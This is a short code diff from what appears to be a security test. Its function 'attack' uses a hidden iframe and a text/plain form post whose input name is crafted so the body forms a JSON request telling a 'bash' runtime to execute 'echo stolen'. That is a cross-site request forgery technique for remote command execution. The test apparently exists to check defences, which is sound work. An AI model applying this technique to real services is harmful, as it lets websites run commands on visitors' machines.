@@ -191,7 +191,8 @@ async function attack(page: Page, url: string, id: string): Promise<string[]> {
         frame.name = `form-${path}`;
         document.body.append(frame);
         const form = document.createElement("form");
-        Object.assign(form, { method: "post", action: path, enctype: "text/plain", target: frame.name });
+        const enctype = "text/plain";
+        Object.assign(form, { method: "post", action: path, enctype, target: frame.name });
         // The text of the body is {"runtime":"bash","code":"echo stolen","x":"="}.
         const input = document.createElement("input");
         input.name = '{"runtime":"bash","code":"echo stolen","x":"';
